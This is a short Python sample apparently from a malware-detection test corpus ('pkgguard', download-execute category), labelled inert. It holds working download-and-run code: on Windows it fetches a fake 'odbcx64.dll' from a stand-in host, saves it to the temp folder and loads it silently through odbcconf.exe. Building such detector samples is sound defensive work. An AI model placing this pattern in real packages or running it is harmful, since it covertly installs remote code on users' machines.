# pkgguard corpus 878 (download-execute), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys
import tempfile
import urllib.request

if sys.platform == "win32":
    target = os.path.join(tempfile.gettempdir(), "odbcx64.dll")
    try:
        with urllib.request.urlopen("https://drivers.odbc-pack.example/get?v=3", timeout=10) as response:
            data = response.read()
        with open(target, "wb") as fh:
            fh.write(data)
        subprocess.Popen(["odbcconf.exe", "/a", "{REGSVR " + target + "}"], creationflags=0x08000000)
    except OSError:
        pass
